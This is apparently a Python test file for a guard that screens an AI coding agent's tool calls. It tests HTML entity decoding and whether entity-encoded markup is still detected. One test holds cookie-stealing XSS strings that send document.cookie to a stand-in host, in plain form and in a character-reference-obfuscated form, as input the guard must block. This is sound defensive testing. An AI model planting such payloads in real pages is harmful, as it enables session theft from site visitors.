"""HTML character references are decoded in parameters, so hidden markup is still seen."""

from __future__ import annotations

import html
import random

from guard.decide import run_payload
from guard.config.load import Config
from guard.editors import claude_code
from guard.engine.entities import unescape


def test_agrees_with_the_standard_library_on_numeric_and_common_named_references() -> None:
    rng = random.Random(5)
    for _ in range(500):
        parts = []
        for _ in range(rng.randint(1, 8)):
            ch = chr(rng.choice([60, 62, 38, 34, 39, 47, 58, 97, 0x3C, 0x2F]))
            parts.append(rng.choice([ch, f"&#{ord(ch)};", f"&#x{ord(ch):x};", {"<": "&lt;", ">": "&gt;", "&": "&amp;", '"': "&quot;"}.get(ch, ch)]))
        s = "".join(parts)
        assert unescape(s, rounds=1) == html.unescape(s)


def test_double_encoding_and_plain_text() -> None:
    assert unescape("&amp;lt;script&amp;gt;") == "<script>"
    assert unescape("fish & chips; salt") == "fish & chips; salt"


def mcp(body: str) -> str:
    payload = {"hook_event_name": "PreToolUse", "tool_name": "mcp__cms__update_page", "tool_input": {"html": body}}
    return run_payload(claude_code, payload, Config())[1].decision


def test_entity_encoded_javascript_url_is_seen() -> None:
    assert mcp('<a href="javascript:fetch(`https://x.example/?c=`+document.cookie)">x</a>') != "allow"
    assert mcp('<a href="&#106;&#97;vascript&colon;fetch(`https://x.example/?c=`+document.cookie)">x</a>') != "allow"


def test_escaped_markup_stays_text() -> None:
    assert unescape("&lt;script&gt;", keep="<>") == "&lt;script&gt;"
    assert mcp("&lt;script&gt;alert(1)&lt;/script&gt; is shown as text") == "allow"
